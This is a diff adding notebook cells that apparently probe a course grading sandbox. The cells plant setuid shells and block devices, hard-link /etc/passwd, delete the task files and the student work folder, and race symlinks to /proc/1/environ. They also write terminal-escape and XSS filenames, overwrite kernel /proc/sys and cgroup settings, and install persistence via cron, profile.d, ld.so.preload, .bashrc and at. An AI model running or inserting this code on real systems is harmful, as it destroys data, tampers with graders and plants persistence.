@@ -85,3 +85,76 @@ libc.mount(b"none", b"/", b"", 32 | 4096, None)
 libc.umount2(b"/tmp", 2)
 libc.unshare(0x10000000)
 libc.chroot(b"/")
+
+# %% setuid files, hard links and devices
+import os
+import stat
+
+for folder in ("/tmp", "/dev/shm", "."):
+    path = os.path.join(folder, "planted-shell")
+    try:
+        open(path, "w").write("#!/bin/sh\nid\n")
+        os.chmod(path, 0o6755)
+        os.link("/etc/passwd", path + ".link")
+    except OSError:
+        pass
+    try:
+        os.mknod(os.path.join(folder, "planted-disk"), 0o666 | stat.S_IFBLK, os.makedev(8, 0))
+    except OSError:
+        pass
+
+# %% folders with the names of the release's files
+import os
+import shutil
+
+for name in ("tasks.py", "visible.json", "quiz.json", "01_activation_memory.ipynb"):
+    try:
+        os.remove(name)
+    except OSError:
+        pass
+    os.makedirs(f"{name}/{name}")
+shutil.rmtree("/home/student/work", ignore_errors=True)
+
+# %% a link that is exchanged while others look at it
+import os
+import threading
+
+def swap():
+    while True:
+        for target in ("/etc/passwd", "/proc/1/environ", "tasks.py"):
+            try:
+                os.symlink(target, "new")
+                os.replace("new", "visible.json")
+            except OSError:
+                pass
+
+threading.Thread(target=swap, daemon=True).start()
+
+# %% names that draw on the terminal and run in the page
+import sys
+
+for name in ("\x1b[2J\x1b]0;owned\x07", "<img src=x onerror=alert(1)>", "a\nb", "--help", "=cmd()"):
+    open(name, "w").close()
+    print(name)
+    print(name, file=sys.stderr)
+raise RuntimeError("\x1b[2J<script>alert(1)</script>" * 100)
+
+# %% the kernel's own switches
+import glob
+
+for path in [*glob.glob("/proc/sys/**", recursive=True)[:3000], "/proc/self/oom_score_adj", "/proc/self/coredump_filter", "/proc/self/clear_refs", *glob.glob("/sys/fs/cgroup/*")]:
+    try:
+        open(path, "w").write("0")
+    except OSError:
+        pass
+
+# %% crontab, profile and the package manager's hooks
+import os
+import subprocess
+
+for path in ("/etc/cron.d/planted", "/etc/profile.d/planted.sh", "/etc/ld.so.preload", "/usr/local/lib/planted.so", "/root/.bashrc", "/run/planted"):
+    try:
+        open(path, "a").write("touch /tmp/planted\n")
+    except OSError:
+        pass
+subprocess.run("echo 'touch /tmp/planted' | at now; crontab -l; (sleep 2; touch /var/tmp/planted) & disown", shell=True, capture_output=True)
